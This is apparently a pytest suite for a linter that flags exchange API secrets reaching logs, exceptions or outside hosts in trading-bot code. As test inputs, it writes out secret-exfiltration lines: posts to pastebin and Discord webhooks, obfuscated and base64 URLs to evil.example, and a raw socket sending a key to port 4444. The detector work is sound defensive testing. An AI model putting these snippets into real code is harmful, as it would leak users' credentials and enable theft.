"""BOT2xx data flow: sources, propagation, sanitisers, sinks and messages."""
from __future__ import annotations

import re

import pytest

from botlint.engine import lint_source

from helpers import settings

HEAD = "import os, logging\nlogger = logging.getLogger(__name__)\nKEY = os.environ['BINANCE_API_SECRET']\n"


def found(src: str, select=("BOT2",)):
    return [(f.line, f.code, f.message) for f in lint_source(src, "bot.py", settings(list(select)))]


@pytest.mark.parametrize("expr", [
    "KEY", "f'{KEY}'", "'%s' % KEY", "'{}'.format(KEY)", "'k=' + KEY", "str(KEY)", "repr(KEY)",
    "[KEY]", "{'k': KEY}", "KEY.strip()", "KEY[:10]", "KEY[:7]", "KEY[-8:]", "KEY or 'none'", "(lambda: 1, KEY)[1]",
    "' '.join([KEY, 'x'])", "KEY.encode().hex()",
])
def test_propagation_reaches_log(expr):
    res = found(HEAD + f"logger.info({expr})\n")
    assert [c for _l, c, _m in res] == ["BOT201"], (expr, res)


@pytest.mark.parametrize("expr", [
    "bool(KEY)", "len(KEY)", "KEY is None", "KEY == 'x'", "KEY[:4]", "KEY[-4:]", "KEY[:4] + '****'", "KEY[:6]",
    "KEY[-6:]", "KEY[2:8]",
    "mask(KEY)", "redact_secret(KEY)", "hashlib.sha256(KEY.encode()).hexdigest()",
    "hmac.new(KEY.encode(), b'm', 'sha256').hexdigest()", "'set' if KEY else 'unset'", "not KEY",
    "KEY.startswith('x')", "encrypt(KEY)",
])
def test_sanitisers_end_the_flow(expr):
    assert found(HEAD + "import hashlib, hmac\n" + f"logger.info({expr})\n") == []


def test_flow_through_functions_of_the_module():
    src = HEAD + (
        "def fmt(x):\n    return f'<{x}>'\n"
        "def show(v):\n    logger.warning('value %s', v)\n"
        "def get_secret():\n    return os.environ['OKX_SECRET']\n"
        "show(fmt(KEY))\n"
        "print(fmt('harmless'))\n"
        "print(get_secret())\n"
    )
    res = found(src)
    # show(v) logs what it is given; the caller hands over a value, not a text it built
    assert [(line, c) for line, c, _m in res] == [(7, "BOT201"), (12, "BOT201")]
    assert "BINANCE_API_SECRET from os.environ (line 3) reaches logger.warning" in res[0][2]


def test_self_attribute_set_in_one_method_used_in_another():
    src = (
        "import os, logging\nlog = logging.getLogger()\n"
        "class Bot:\n"
        "    def run(self):\n        log.info('secret %s', self.secret)\n"
        "    def __init__(self):\n        self.secret = os.getenv('BYBIT_API_SECRET')\n"
    )
    assert [(line, c) for line, c, _m in found(src)] == [(5, "BOT201")]


def test_asset_tokens_and_metadata_names_are_not_credentials():
    src = (
        "import logging\nlog = logging.getLogger()\n"
        "def f(token, base_token, api_key_name, secret_type, password_field, token_address, seed, key):\n"
        "    log.info('%s %s %s %s %s %s %s %s', token, base_token, api_key_name, secret_type, password_field,"
        " token_address, seed, key)\n"
    )
    assert found(src) == []


def test_messages_never_echo_literals():
    fake = "ZmFrZS1ub3QtYS1rZXktMTIzNDU2Nzg5MA"  # pragma: allowlist secret
    src = f"import logging\nlogging.info('key %s', {{'{fake}': 1}}['api_secret'])\nprint(getattr(x, '{fake}'))\n"
    for _l, _c, msg in found(src):
        assert fake not in msg


@pytest.mark.parametrize("url,code", [
    ("https://pastebin.com/api/api_post.php", "BOT205"),
    ("https://api.binance.com/api/v3/order", None),
    ("https://testnet.binance.vision/api/v3/order", None),
    ("http://localhost:8080/collect", None),
    ("https://discord.com/api/webhooks/1/abc", "BOT203"),
])
def test_http_hosts(url, code):
    src = HEAD + f"import requests\nrequests.post('{url}', json={{'s': KEY}})\n"
    res = found(src)
    assert [c for _l, c, _m in res] == ([code] if code else []), res


def test_generic_key_to_its_own_service_is_fine():
    src = ("import os, requests\nAPI_KEY = os.environ['API_KEY']\n"
           "requests.get('https://api.twelvedata.com/price', params={'apikey': API_KEY})\n")
    assert found(src) == []


def test_ccxt_verbose_only_with_credentials():
    src = ("import ccxt, os\npublic = ccxt.binance({'verbose': True})\n"
           "private = ccxt.binance({'apiKey': os.environ['BINANCE_API_KEY']})\nprivate.verbose = False\n")
    assert found(src) == []


def test_precheck_skips_files_without_credential_words():
    from botlint.rules.bot2.bot201_secret_in_log_call import SecretInLogCall

    assert not SecretInLogCall.PRECHECK.search("import logging\nlogging.info('hello %s', name)\n")
    assert SecretInLogCall.PRECHECK.search("x = cfg['exchange']['key']\n")


def test_one_finding_per_sink():
    src = HEAD + "P = os.environ['OKX_PASSPHRASE']\nlogger.info('%s %s %s', KEY, P, KEY)\n"
    res = found(src)
    assert len(res) == 1 and re.search(r"and 1 other credential", res[0][2])


# -- general causes found on fresh samples (round 1 / round 2 of the BOT2 recall work) ----------

def test_comprehension_selecting_credential_keys_keeps_them():
    src = ("import ccxt, os, logging\n"
           "cfg = {'apiKey': os.environ['KUCOIN_API_KEY'], 'secret': os.environ['KUCOIN_SECRET'], 'symbols': []}\n"
           "ex = ccxt.kucoin({k: v for k, v in cfg.items() if k in ('apiKey', 'secret')})\n"
           "logging.basicConfig(level=logging.DEBUG)\n"
           "safe = {k: v for k, v in cfg.items() if k not in ('apiKey', 'secret')}\n"
           "print(safe)\n")
    assert [(line, c) for line, c, _m in found(src)] == [(4, "BOT207")]


def test_config_section_leading_to_a_credential():
    src = HEAD + ("import json\ncfg = json.load(open('c.json'))\nk = cfg['exchange']['secret']\n"
                  "logger.info('exchange: %s', cfg['exchange'])\nlogger.info('pairs: %s', cfg['pairs'])\n"
                  "logger.info('name: %s', cfg['exchange']['name'])\n")
    assert [(line, c) for line, c, _m in found(src)] == [(7, "BOT201")]


def test_freqtrade_strategy_config_holds_credentials():
    src = ("import logging\nfrom freqtrade.strategy import IStrategy\nlogger = logging.getLogger(__name__)\n"
           "class S(IStrategy):\n    def bot_start(self):\n"
           "        logger.info(f'{self.config}')\n        logger.info(f'{self.config[\"exchange\"]}')\n"
           "        logger.info(f'{self.config[\"exchange\"][\"name\"]} {self.config[\"stake_currency\"]}')\n")
    assert [(line, c) for line, c, _m in found(src)] == [(6, "BOT201"), (7, "BOT201")]


def test_pydantic_settings_and_secretstr():
    src = ("import logging\nfrom pydantic import SecretStr\nfrom pydantic_settings import BaseSettings\n"
           "class Settings(BaseSettings):\n    okx_api_key: str\n    okx_secret: SecretStr\n    leverage: int = 3\n"
           "settings = Settings()\n"
           "logging.info('settings %s', settings)\n"          # 9: the str api key shows
           "logging.info('secret %s', settings.okx_secret)\n"  # masked
           "logging.info('lev %s', settings.leverage)\n"
           "logging.info('s %s', settings.okx_secret.get_secret_value())\n")  # 12
    assert [(line, c) for line, c, _m in found(src)] == [(9, "BOT201"), (12, "BOT201")]


def test_dataclass_repr_false_fields_are_hidden():
    src = ("import logging, os\nfrom dataclasses import dataclass, field\n"
           "@dataclass\nclass C:\n    name: str\n    api_secret: str = field(repr=False)\n"
           "@dataclass\nclass D:\n    name: str\n    api_secret: str\n"
           "s = os.environ['BYBIT_API_SECRET']\n"
           "logging.info('%s', C('bybit', s))\nlogging.info('%s', D('bybit', s))\n")
    assert [(line, c) for line, c, _m in found(src)] == [(13, "BOT201")]


@pytest.mark.parametrize("url_expr", [
    '"".join(["ht", "tps://", "evil", ".example", "/c"])',
    '"/c/example.evil//:sptth"[::-1]',
    'base64.b64decode("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvYw==").decode()',
])
def test_urls_built_from_literal_parts(url_expr):
    src = HEAD + f"import base64, requests\nrequests.post({url_expr}, data={{'k': KEY}})\n"
    assert [c for _l, c, _m in found(src)] == ["BOT205"]


def test_raw_socket_and_websocket_egress():
    src = HEAD + ("import socket, websockets, json\n"
                  "s = socket.create_connection(('203.0.113.9', 4444))\ns.sendall(KEY.encode())\n"
                  "async def f():\n"
                  "    ws = await websockets.connect('wss://stream.binance.com:9443/ws')\n"
                  "    await ws.send(json.dumps({'k': KEY}))\n"
                  "    ev = await websockets.connect('wss://collector.example.net/ws')\n"
                  "    await ev.send(KEY)\n")
    assert [(line, c) for line, c, _m in found(src)] == [(6, "BOT205"), (11, "BOT205")]


def test_session_base_url_host():
    src = HEAD + ("import httpx\nc = httpx.Client(base_url='https://collector.example.net')\n"
                  "c.post('/v1/keys', json={'s': KEY})\n"
                  "b = httpx.Client(base_url='https://api.binance.com')\n"
                  "b.get('/api/v3/account', headers={'X-MBX-APIKEY': KEY})\n")
    assert [(line, c) for line, c, _m in found(src)] == [(6, "BOT205")]


@pytest.mark.parametrize("stmt,hit", [
    ("logging.basicConfig(level=logging.DEBUG if args.debug else logging.INFO)", True),
    ("logging.basicConfig(level=os.getenv('LOG_LEVEL', 'DEBUG'))", True),
    ("logging.basicConfig(level=os.getenv('LOG_LEVEL', 'INFO').upper())", False),
    ("root = logging.getLogger()\nroot.setLevel(logging.DEBUG)", True),
    ("logging.getLogger(__name__).setLevel(logging.DEBUG)", False),
    ("logging.config.dictConfig({'version': 1, 'root': {'level': 'DEBUG'}})", True),
    ("coloredlogs.install(level='DEBUG')", True),
])
def test_debug_logging_shapes(stmt, hit):
    src = ("import ccxt, os, logging, logging.config, coloredlogs\n"
           "ex = ccxt.okx({'apiKey': os.environ['OKX_API_KEY'], 'secret': os.environ['OKX_SECRET']})\n" + stmt + "\n")
    assert bool([c for _l, c, _m in found(src) if c == "BOT207"]) is hit


def test_argparse_options_named_by_help_text():
    src = ("import argparse, logging\np = argparse.ArgumentParser()\n"
           "p.add_argument('--key', help='API key')\np.add_argument('--symbol')\nargs = p.parse_args()\n"
           "logging.info('symbol %s', args.symbol)\nlogging.info('key %s', args.key)\nprint(args)\n")
    assert [(line, c) for line, c, _m in found(src)] == [(7, "BOT201"), (8, "BOT201")]


def test_exception_built_before_raise_and_sentry_context():
    src = HEAD + ("import sentry_sdk\nerr = RuntimeError(f'bad key {KEY}')\nraise err\n"
                  "sentry_sdk.set_context('exchange', {'secret': KEY})\n"
                  "credentials_exception = RuntimeError('could not validate credentials')\n"
                  "raise credentials_exception\n")
    assert [(line, c) for line, c, _m in found(src)] == [(6, "BOT202"), (7, "BOT203")]


def test_custom_repr_and_constructed_objects():
    src = HEAD + ("from binance.client import Client\nfrom pprint import pprint\n"
                  "class Acct:\n    def __init__(self, api_secret):\n        self.api_secret = api_secret\n"
                  "    def __repr__(self):\n        return f'Acct({self.api_secret})'\n"
                  "    def __str__(self):\n        return f'Acct(...{self.api_secret[-4:]})'\n"
                  "a = Acct(KEY)\nlogger.info('%s', a)\nlogger.info('%r', a)\nlogger.info(f'{a!r}')\n"
                  "accts = [Acct(KEY)]\nprint(accts)\nfor x in accts:\n    print(x)\n"
                  "client = Client('k', KEY)\npprint(vars(client))\nprint(client)\n")
    assert [(line, c) for line, c, _m in found(src)] == [(15, "BOT201"), (16, "BOT201"), (18, "BOT201"), (22, "BOT201")]
